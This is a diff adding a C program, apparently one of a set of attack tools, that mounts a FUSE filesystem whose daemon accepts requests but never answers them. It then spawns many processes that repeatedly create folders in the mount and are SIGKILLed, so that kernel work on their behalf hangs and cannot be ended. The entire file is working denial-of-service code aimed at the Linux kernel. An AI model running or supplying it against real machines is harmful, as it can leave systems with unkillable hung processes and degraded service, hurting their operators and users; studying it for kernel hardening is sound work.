@@ -1,0 +1,94 @@
+/*
+ * hung PROCESSES: mounts a FUSE whose daemon takes requests and answers none, and has so many processes make folders in it
+ * which are killed a moment later, again and again. Whatever acts for them hangs, and not even SIGKILL ends it.
+ */
+#define _GNU_SOURCE
+#include "attack.h"
+
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define PLACE "/hung"
+
+static void reply(int device, uint64_t unique, const void *data, size_t size)
+{
+    struct fuse_out_header header = {.len = (uint32_t)(sizeof header + size), .unique = unique};
+    struct iovec parts[] = {{&header, sizeof header}, {(void *)data, size}};
+
+    if (writev(device, parts, 2) < 0)
+        fail("reply");
+}
+
+static void serve(int device)
+{
+    static char buffer[1 << 17];
+    struct fuse_in_header *request = (struct fuse_in_header *)buffer;
+    struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
+    struct fuse_attr_out attributes = {.attr = {.ino = 1, .mode = S_IFDIR | 0755, .nlink = 2}};
+
+    while (read(device, buffer, sizeof buffer) >= (ssize_t)sizeof *request)
+        if (request->opcode == FUSE_INIT)
+            reply(device, request->unique, &init, sizeof init);
+        else if (request->opcode == FUSE_GETATTR)
+            reply(device, request->unique, &attributes, sizeof attributes);
+}
+
+static void have_folders_made(long number)
+{
+    char name[64];
+
+    for (long i = 0;; i++) {
+        pid_t child = fork();
+        if (child == 0) {
+            snprintf(name, sizeof name, PLACE "/%ld-%ld", number, i);
+            mkdir(name, 0755);
+            _exit(0);
+        }
+        usleep(200000);
+        kill(child, SIGKILL);
+        waitpid(child, NULL, 0);
+    }
+}
+
+static void start(void (*run)(long), long argument)
+{
+    if (fork() == 0) {
+        prctl(PR_SET_PDEATHSIG, SIGKILL);
+        run(argument);
+        _exit(0);
+    }
+}
+
+static int device;
+
+static void serve_device(long unused)
+{
+    (void)unused;
+    serve(device);
+}
+
+int main(int argc, char **argv)
+{
+    long count = argc == 2 ? atol(argv[1]) : 0;
+    char options[128];
+
+    device = open("/dev/fuse", O_RDWR);
+    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", device);
+    if (device < 0 || mount("hung", PLACE, "fuse", 0, options) < 0)
+        fail(PLACE);
+    start(serve_device, 0);
+    close(device);
+    for (long i = 0; i < count; i++)
+        start(have_folders_made, i);
+    for (;;)
+        pause();
+}
